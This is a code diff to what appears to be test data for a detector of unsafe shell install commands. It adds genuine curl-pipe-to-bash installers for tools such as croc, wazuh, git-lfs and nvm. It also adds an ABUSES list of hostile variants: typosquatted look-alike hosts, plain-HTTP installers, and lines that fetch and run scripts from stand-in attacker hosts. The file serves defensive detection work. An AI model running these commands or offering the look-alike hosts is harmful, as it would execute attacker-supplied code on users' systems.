@@ -195,6 +195,21 @@ TOOLS: dict[str, list[str]] = {
     "kubebuilder": [
         'curl -L -o kubebuilder "https://go.kubebuilder.io/dl/latest/$(go env GOOS)/$(go env GOARCH)"\nchmod +x kubebuilder && sudo mv kubebuilder /usr/local/bin/',
     ],
+    "croc": ["curl https://getcroc.schollz.com | bash"],
+    "wazuh": [
+        "curl -sO https://packages.wazuh.com/4.12/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
+    ],
+    "git-lfs": [
+        "curl -s https://packagecloud.io/install/repositories/github/git-lfs/script.deb.sh | sudo bash",
+    ],
+    "earlier-homes": [
+        "curl -o- https://raw.githubusercontent.com/creationix/nvm/v0.33.11/install.sh | bash",
+        "curl -s https://raw.githubusercontent.com/rancher/k3d/main/install.sh | bash",
+        "curl -sSL https://raw.githubusercontent.com/python-poetry/poetry/master/get-poetry.py | python -",
+        "curl https://raw.githubusercontent.com/rust-lang/rustup/master/rustup-init.sh -sSf | sh -s -- -y",
+        "curl -fsSL https://raw.githubusercontent.com/nodesource/distributions/master/deb/setup_18.x | sudo -E bash -",
+        "wget -NP . https://raw.githubusercontent.com/dokku/dokku/v0.34.8/bootstrap.sh\nsudo DOKKU_TAG=v0.34.8 bash bootstrap.sh",
+    ],
     "wireguard-install": [
         "curl -O https://raw.githubusercontent.com/angristan/wireguard-install/master/wireguard-install.sh\nchmod +x wireguard-install.sh\n./wireguard-install.sh",
         "wget https://raw.githubusercontent.com/Nyr/openvpn-install/master/openvpn-install.sh -O openvpn-install.sh && bash openvpn-install.sh",
@@ -230,6 +245,11 @@ ABUSES = [
     "curl -fsSL https://cdn.umbra-stage.test/i | sh # https://sh.starkup.dev",
     "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh && curl -fsSL https://cdn.umbra-stage.test/post.sh | sh",
     "curl -L https://risczero.com/install | bash; wget -qO- https://198.51.100.23/r.sh | bash",
+    # an earlier home's name under another account, a look-alike of the package host
+    "curl -o- https://raw.githubusercontent.com/creationix-dev/nvm/v0.33.11/install.sh | bash",
+    "curl -s https://packagecloud.io/install/repositories/githubb/git-lfs/script.deb.sh | sudo bash",
+    "curl https://getcroc.schollz.com.cdn-relay.test | bash",
+    "curl -sO https://packages-wazuh.cdn-relay.test/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
     # plain HTTP to the tool's host (anyone on the path can swap the script)
     "curl -L http://install.perlbrew.pl | bash",
     "curl http://get.okteto.com -sSfL | sh",
